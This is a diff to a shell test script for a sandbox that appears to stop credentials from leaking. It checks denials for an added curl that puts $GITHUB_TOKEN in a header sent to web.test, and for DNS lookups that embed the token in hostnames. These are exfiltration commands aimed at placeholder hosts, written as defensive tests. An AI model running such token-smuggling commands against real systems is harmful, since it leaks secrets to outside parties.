@@ -32,6 +32,9 @@ for who in root as_user; do
         hasnt "$who: another host does not get it" "$(cat "$T/lab/auth.log")" "Q9zz"
         is "$who: the refusal is one of a credential, with the smallest line" "$(json '[.denials[] | select(.code == "credential")][0] | [.layer, .permit] | join(", ")')" "egress, net http://four.test/steal GET with NAME"
         has "$who: and the next step" "$(json '[.denials[] | select(.code == "credential")][0].next_steps | join("; ")')" "cordon vault list"
+        box $who --net "$plain" -- sh -c 'curl -sS -m 10 -H "X-Other: $GITHUB_TOKEN" http://web.test/other'
+        is "$who: nor does another header of its own door, and no line would change that" "$(json '[.denials[] | select(.code == "credential")][0] | [.what, .permit] | join("; ")')" \
+                "GET http://web.test/other (the placeholder of this door's credential stands where it does not belong); "
         : >"$T/lab/dns.log"
         box $who --net "$plain" --net '*.wild.test:80' -- sh -c 'for n in $GITHUB_TOKEN.wild.test 1$GITHUB_TOKEN.x.wild.test $GITHUB_TOKEN.other.test 7.wild.test; do getent hosts $n; done'
         is "$who: nor in a name that a wildcard covers: it does not exist" "$(grep -c wild "$T/out") $(lab_names | tr '\n' ' ')" "1 7.wild.test "
